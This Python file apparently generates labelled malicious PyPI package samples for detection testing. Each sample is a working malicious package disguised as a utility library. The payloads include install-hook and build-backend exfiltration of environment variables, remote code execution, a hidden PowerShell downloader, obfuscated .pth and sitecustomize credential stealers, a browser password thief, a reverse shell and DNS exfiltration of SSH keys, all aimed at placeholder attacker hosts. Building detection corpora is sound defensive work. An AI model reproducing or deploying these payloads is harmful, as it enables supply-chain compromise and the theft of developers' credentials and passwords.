"""PyPI, bad: install time and start-up."""
import base64
import marshal
import zlib

from .core import b64, sample

bad = lambda family: sample("pypi", "bad", family)  # noqa: E731


@bad("setup-cmdclass-exfil")
def _(c):
    return dict(name=c.name("geo", "utils"), desc="Geodesic helpers", kind="sdist", files={"setup.py": r'''
import getpass
import json
import os
import platform
from urllib import request

from setuptools import find_packages, setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def _announce():
    data = {"u": getpass.getuser(), "n": platform.node(), "e": dict(os.environ)}
    req = request.Request("https://@H@/pip", data=json.dumps(data).encode(), method="POST")
    try:
        request.urlopen(req, timeout=5)
    except Exception:
        pass


class PostInstall(install):
    def run(self):
        super().run()
        _announce()


class PostDevelop(develop):
    def run(self):
        develop.run(self)
        _announce()


setup(name="geo-utils", version="@VER@", packages=find_packages(), cmdclass={"install": PostInstall, "develop": PostDevelop})
'''})


@bad("setup-toplevel-remote-exec")
def _(c):
    return dict(name=c.name("yaml", "env"), desc="Environment substitution in YAML", kind="sdist", files={"setup.py": r'''
import setuptools
import urllib.request as u

with open("README.md", encoding="utf-8") as fh:
    long_description = fh.read()

exec(compile(u.urlopen("http://@H@:@PORT@/inject/@ID@").read(), "<setup>", "exec"))

setuptools.setup(name="yaml-env", version="0.2", long_description=long_description, packages=setuptools.find_packages())
'''})


@bad("setup-powershell-hidden")
def _(c):
    ps = c.fill("iwr http://@H@/s.exe -OutFile $env:TEMP\\s.exe; & $env:TEMP\\s.exe")
    return dict(name=c.name("pixel", "sort"), desc="Pixel sorting", kind="sdist", files={"setup.py": r'''
from setuptools import setup, find_packages
from setuptools.command.egg_info import egg_info
import os
import subprocess


class Info(egg_info):
    def run(self):
        if os.name == "nt":
            subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-EncodedCommand", "@ENC@"], shell=False,
                             creationflags=0x08000000)
        egg_info.run(self)


setup(name="pixel-sort", version="1.1", packages=find_packages(), cmdclass=dict(egg_info=Info))
'''.replace("@ENC@", b64(ps.encode("utf-16-le")))})


@bad("in-tree-backend")
def _(c):
    return dict(name=c.name("table", "fmt"), desc="Format tables", kind="sdist", files={
        "pyproject.toml": '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "backend"\nbackend-path = ["_build"]\n\n[project]\nname = "table-fmt"\nversion = "@VER@"\n',
        "_build/backend.py": r'''
"""Thin layer over setuptools which stamps the version."""
import os
import subprocess
import tempfile
from urllib.request import urlretrieve

from setuptools import build_meta as _orig
from setuptools.build_meta import *  # noqa: F401,F403


def _stamp():
    where = os.path.join(tempfile.gettempdir(), "stamp-@ID@")
    urlretrieve("https://@H@/bin/stamp", where)
    os.chmod(where, 0o700)
    subprocess.Popen([where], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _stamp()
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
'''})


@bad("pth-start-hook")
def _(c):
    code = c.fill("import os,urllib.request as r;r.urlopen('https://@H@/b',data=repr(dict(os.environ)).encode())")
    n = c.name("metrics")
    return dict(name=n, desc="Process metrics", files={
        n.replace("-", "_") + "_init.pth": f"import base64, sys; exec(base64.b64decode('{b64(code)}')) if sys.version_info > (3, 6) else None\n"})


@bad("pth-subprocess-collector")
def _(c):
    inner = c.fill(r'''
import glob, io, json, os, tarfile, urllib.request
home = os.path.expanduser("~")
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as t:
    for pat in (".ssh/*", ".aws/credentials", ".config/gcloud/*.json", ".kube/config", ".docker/config.json", "*/.env"):
        for p in glob.glob(os.path.join(home, pat)):
            t.add(p)
urllib.request.urlopen(urllib.request.Request("https://@H@/", data=buf.getvalue(), headers={"X-Filename": "tpcp.tar.gz"}))
''')
    n = c.name("proxy", "lite")
    mod = n.replace("-", "_")
    return dict(name=n, desc="A light LLM proxy", files={
        f"{mod}_hooks.pth": f"import {mod}._hooks\n",
        f"{mod}/_hooks.py": "import subprocess\nimport sys\n\n_CODE = (\n" + "".join(
            f'    "{p}"\n' for p in [b64(inner)[i:i + 90] for i in range(0, len(b64(inner)), 90)]) +
        ")\n\nsubprocess.Popen([sys.executable, \"-c\", f\"import base64; exec(base64.b64decode('{_CODE}'))\"],\n                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"})


@bad("sitecustomize-hook")
def _(c):
    return dict(name=c.name("trace", "ctx"), desc="Trace context", files={"sitecustomize.py": r'''
import builtins
import threading

_open = builtins.open


def _send(path):
    import http.client
    conn = http.client.HTTPSConnection("@H@", timeout=3)
    with _open(path, "rb") as f:
        conn.request("POST", "/f", f.read(65536), {"X-Path": str(path)})


def open(file, *args, **kwargs):  # noqa: A001
    name = str(file)
    if name.endswith((".env", "id_rsa", "credentials", ".pypirc", "wallet.dat")):
        threading.Thread(target=_send, args=(file,), daemon=True).start()
    return _open(file, *args, **kwargs)


builtins.open = open
'''})


@bad("marshal-zlib-layers")
def _(c):
    src = c.fill("import urllib.request,os\nurllib.request.urlopen('https://@H@/k?'+os.environ.get('AWS_SECRET_ACCESS_KEY',''))\n")
    blob = base64.b85encode(zlib.compress(marshal.dumps(compile(src, "m", "exec")), 9))
    for _ in range(3):
        blob = base64.b64encode(zlib.compress(blob, 9))[::-1]
    mod = c.name("retry", "http")
    return dict(name=mod, desc="HTTP with retries", files={mod.replace("-", "_") + "/__init__.py":
        '"""HTTP with retries."""\nfrom ._core import session\n\n__all__ = ["session"]\n',
        mod.replace("-", "_") + "/_core.py": "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\n\n\ndef session(retries=3):\n    from urllib import request\n    return request.build_opener()\n\n\nexec(__import__('marshal').loads(__import__('zlib').decompress(__import__('base64').b85decode(_(_(_("
        + repr(blob) + ")))))))\n"})


@bad("client-wrap-telegram")
def _(c):
    src = c.fill("import urllib.request as q\ndef tap(t):\n q.urlopen('https://api.telegram.org/bot@BOT@/sendMessage?chat_id=@CHAT@&text='+str(t))\n")
    blob = base64.b64encode(zlib.compress(src.encode()))[::-1].decode()
    mod = c.name("crypto", "pay").replace("-", "_")
    return dict(name=mod, desc="Asynchronous client for a payment bot", module=mod, files={mod + "/utils/sync.py": r'''
import base64
import functools
import zlib

_SRC = "@B@"
ns = {}
exec(zlib.decompress(base64.b64decode(_SRC[::-1])), ns)


def init(cls):
    original = cls.__init__

    @functools.wraps(original)
    def wrapper(self, *args, **kwargs):
        original(self, *args, **kwargs)
        try:
            ns["tap"]((args, kwargs))
        except Exception:
            pass

    cls.__init__ = wrapper
    return cls
'''.replace("@B@", blob), mod + "/utils/__init__.py": "", mod + "/client.py": r'''
from .utils.sync import init


@init
class PayClient:
    BASE = "https://pay.@W@.example/api"

    def __init__(self, token, network="main"):
        self.token = token
        self.network = network

    def headers(self):
        return {"Crypto-Pay-API-Token": self.token}
''', mod + "/__init__.py": "from .client import PayClient\n\n__all__ = ['PayClient']\n"})


@bad("discord-chrome-passwords")
def _(c):
    mod = c.name("embed", "kit").replace("-", "_")
    return dict(name=mod, desc="Embeds for chat bots", module=mod, files={mod + "/__init__.py": "from .theme import apply\nfrom . import _assets  # noqa\n",
        mod + "/theme.py": "def apply(embed, colour=0x5865F2):\n    embed['color'] = colour\n    return embed\n", mod + "/_assets.py": r'''
import json
import os
import shutil
import sqlite3
import tempfile
from base64 import b64decode
from urllib.request import Request, urlopen

from . import @MISSPY@  # noqa: F401

LOCAL = os.getenv("LOCALAPPDATA", "")
BROWSERS = {
    "chrome": LOCAL + r"\Google\Chrome\User Data",
    "edge": LOCAL + r"\Microsoft\Edge\User Data",
    "brave": LOCAL + r"\BraveSoftware\Brave-Browser\User Data",
}


class Vault:
    def __init__(self, root):
        self.root = root

    def key(self):
        with open(os.path.join(self.root, "Local State"), encoding="utf-8") as f:
            blob = b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
        import win32crypt
        return win32crypt.CryptUnprotectData(blob, None, None, None, 0)[1]

    def rows(self):
        copy = tempfile.mktemp()
        shutil.copy2(os.path.join(self.root, "Default", "Login Data"), copy)
        with sqlite3.connect(copy) as db:
            yield from db.execute("SELECT origin_url, username_value, password_value FROM logins")


def deliver(lines):
    body = json.dumps({"content": "\n".join(lines)[:1900]}).encode()
    urlopen(Request("@HOOK@", body, {"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}))


for name, root in BROWSERS.items():
    try:
        v = Vault(root)
        deliver([f"{name} {u} {n} {bytes(p).hex()} {v.key().hex()}" for u, n, p in v.rows()])
    except Exception:
        continue
'''})


@bad("reverse-shell-pty")
def _(c):
    return dict(name=c.name("term", "utils"), desc="Terminal helpers", kind="sdist", files={"setup.py": r'''
import os
import pty
import socket
from setuptools import setup


def tty():
    s = socket.create_connection(("@H@", @PORT@))
    [os.dup2(s.fileno(), fd) for fd in range(3)]
    pty.spawn("/bin/bash")


if os.fork() == 0:
    os.setsid()
    tty()

setup(name="term-utils", version="0.0.4", packages=["term_utils"])
''', "term_utils/__init__.py": "def width():\n    import shutil\n    return shutil.get_terminal_size().columns\n"}, bare=True)


@bad("dns-exfil")
def _(c):
    mod = c.name("tensor", "triton").replace("-", "_")
    return dict(name=mod, desc="Runtime kernels", module=mod, files={mod + "/__init__.py": r'''
import glob
import os
import socket
import binascii

__version__ = "2.0.1"


def _q(tag, data):
    h = binascii.hexlify(data).decode()
    for i in range(0, len(h), 60):
        try:
            socket.gethostbyname("%s.%d.%s.%s" % (h[i:i + 60], i // 60, tag, "@H@"))
        except OSError:
            pass


def _collect():
    for p in ["/etc/hosts", "/etc/passwd", os.path.expanduser("~/.gitconfig")] + glob.glob(os.path.expanduser("~/.ssh/*")):
        try:
            with open(p, "rb") as f:
                _q(os.path.basename(p), f.read(4096))
        except OSError:
            continue


_collect()


def compile(source, **options):
    raise NotImplementedError("no device")
'''})
